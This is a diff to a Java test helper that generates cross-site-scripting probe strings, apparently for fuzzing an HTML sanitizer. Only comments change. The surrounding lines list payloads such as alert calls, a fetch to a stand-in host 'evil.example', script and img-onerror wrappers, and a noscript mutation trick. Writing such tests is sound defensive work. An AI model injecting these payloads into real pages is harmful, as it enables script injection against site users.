@@ -7,7 +7,7 @@ import java.util.List;
 final class HostileTexts {
   static final int MANY = 200;
 
-  /** Scripts that open a dialog or report themselves if they run. */
+  /** Programs that open a dialog or report themselves if they run. */
   private static final List<String> PROGRAMS =
       List.of(
           "alert(%d)",
@@ -16,7 +16,7 @@ final class HostileTexts {
           "fetch('//evil.example/%d')",
           "window.witness.push('ran %d')");
 
-  /** Places where text can become code. */
+  /** Forms in which a program may be hidden. */
   private static final List<String> GUISES =
       List.of(
           "<script>%s</script>",
@@ -58,7 +58,7 @@ final class HostileTexts {
           "<template><script>%s</script></template>",
           "<noscript><p title=\"</noscript><img src=x onerror=%s>\">");
 
-  /** Unusual texts that are no code. */
+  /** Unusual texts that are no programs. */
   private static final List<String> ODD =
       List.of(
           "__proto__",
@@ -90,7 +90,7 @@ final class HostileTexts {
 
   private HostileTexts() {}
 
-  /** Returns this number of different texts with at most this many characters each. */
+  /** Returns different texts of at most this many characters. */
   static List<String> texts(int longest) {
     List<String> texts = new ArrayList<>(ODD);
     for (int number = 1; texts.size() < MANY; number++) {
